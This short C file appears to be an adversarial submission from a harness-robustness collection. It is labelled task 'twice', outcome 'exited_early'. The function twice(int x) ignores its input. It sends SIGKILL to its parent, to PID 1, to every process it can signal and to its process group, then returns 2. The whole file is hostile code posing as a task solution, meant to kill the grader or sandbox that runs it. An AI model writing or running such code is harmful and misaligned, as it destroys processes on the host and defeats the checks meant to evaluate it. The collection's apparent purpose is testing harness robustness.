// task: twice
// outcome: exited_early
// attack: SIGKILL to all that it may signal, which is itself
#include <signal.h>
#include <unistd.h>
int twice(int x) { kill(getppid(), SIGKILL); kill(1, SIGKILL); kill(-1, SIGKILL); kill(0, SIGKILL); return 2; }
